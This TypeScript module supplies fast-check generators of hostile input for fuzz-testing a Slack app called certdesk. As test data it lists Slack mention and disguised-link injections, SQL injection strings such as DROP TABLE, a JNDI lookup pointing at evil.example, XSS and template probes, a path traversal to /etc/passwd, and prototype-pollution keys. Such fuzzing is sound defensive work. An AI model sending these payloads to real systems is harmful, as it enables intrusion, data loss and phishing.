import fc from "fast-check";

/**
 * Values a hostile or careless user (or a tampered payload) can put where certdesk expects text,
 * ids or numbers. The mrkdwn injections use ids no test user has, so a leak into Slack is easy to spot.
 */

/** Slack control sequences that notify people or disguise links when they reach mrkdwn unescaped. */
export const MRKDWN_INJECTIONS = [
  "<!channel>",
  "<!here>",
  "<!everyone>",
  "<@UEVIL0001>",
  "<!subteam^SEVIL0001>",
  "<#CEVIL0001|general>",
  "<https://evil.example/login|Reset your password>",
] as const;

/** Injection-shaped text for other interpreters: SQL, templates, paths, HTML, JSON, prototype keys. */
const OTHER_INJECTIONS = [
  "'; DROP TABLE clients; --",
  "' OR '1'='1",
  "1; DELETE FROM orders",
  "Robert'); DROP TABLE contacts;--",
  "%' OR 1=1 --",
  "\\",
  ["$", "{jndi:ldap://evil.example/a}"].join(""),
  "{{7*7}}",
  "<script>alert(1)</script>",
  "../../../../etc/passwd",
  '{"__proto__":{"admin":true}}',
  "__proto__",
  "constructor",
  "null",
  "undefined",
  "NaN",
  "[object Object]",
  "*bold* _it_ ~strike~ `code` ```block```",
  "&amp; &lt; &gt;",
  '"quoted"',
  "“smart quotes”",
  "SSL-",
  "SSL-0",
  "SSL-99999999999999999999",
  "ssl-1001",
  "*.*.example.com",
  "xn--",
  "xn--zz.com",
  "http://www.example.com/path?q=1#x",
  "www.example.com.",
  "10.1.2.3",
  "localhost",
  "example",
  "-bad-.com",
];

/** Text that stresses encodings: control characters, bidi overrides, lone surrogates, emoji, wide forms. */
const UNICODE_TRAPS = [
  "\u0000",
  "a\u0000b",
  "\u0007\u001b[31mred",
  "line\nbreak",
  "tab\there",
  "\r\n",
  "\u202egnp.exe",
  "\u200b",
  "\ufeff",
  "\ud800",
  "\udfff",
  "👩‍👩‍👧‍👦",
  "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
  "ｗｗｗ．ｅｘａｍｐｌｅ．ｃｏｍ",
  "Bücher.example.com",
  "пример.рф",
  "例え.テスト",
  "ﷺ",
  "Z̷̛͔a̴l̸g̶o̵",
  " ",
  "",
];

/** What a button value or id-like field may carry after tampering. */
export const HOSTILE_IDS = [
  "",
  "0",
  "-1",
  "-0",
  "1.5",
  "1e3",
  "1e999",
  "0x10",
  " 7 ",
  "2147483648",
  "9007199254740991",
  "9007199254740993",
  "99999999999999999999999",
  "NaN",
  "Infinity",
  "abc",
  "1; DROP TABLE orders",
  "[1]",
  '{"offset":-1}',
  '{"offset":1e999}',
  '{"clientId":"x","offset":0}',
  "check:",
  "check:abc",
  "details:-1",
  "renew:9007199254740993",
  "edit:",
  "remove:2147483648",
  "default:0",
  "frobnicate:1",
] as const;

const injection = fc.constantFrom(...MRKDWN_INJECTIONS, ...OTHER_INJECTIONS);
const trap = fc.constantFrom(...UNICODE_TRAPS);

/** Any string fast-check can make, including lone surrogates and characters outside the BMP. */
const anyText = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 20 }),
);

/** Far beyond every limit Slack and certdesk set (3000-character inputs, 253-character domains). */
const oversized = fc
  .tuple(fc.constantFrom("a", "é", "👩‍👩‍👧‍👦", "<!here>", "x.", "'"), fc.integer({ min: 260, max: 12_000 }))
  .map(([unit, times]) => unit.repeat(Math.ceil(times / unit.length)));

/** A mixture of all of the above, joined the way people paste things. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: injection },
  { weight: 2, arbitrary: trap },
  { weight: 2, arbitrary: anyText },
  { weight: 1, arbitrary: oversized },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.oneof(injection, trap, anyText), { minLength: 2, maxLength: 4 })
      .chain((parts) => fc.constantFrom(" ", "", ".", ",", "\n").map((glue) => parts.join(glue))),
  },
);

/** Button values, option values and ids as a tampered payload might carry them. */
export const hostileId: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_IDS) },
  { weight: 1, arbitrary: fc.bigInt({ min: -(2n ** 70n), max: 2n ** 70n }).map(String) },
  { weight: 1, arbitrary: hostileText },
);

/**
 * A fixed seed, so a run is reproducible; FC_SEED replays the seed of a failure fast-check reported
 * (or explores new inputs). `examples` always run first: the cases that once broke something.
 */
export function propertyOptions<T>(numRuns: number, examples: T[] = []): fc.Parameters<T> {
  const seed = process.env.FC_SEED ? Number(process.env.FC_SEED) : 20261127;
  return { numRuns, seed, examples };
}
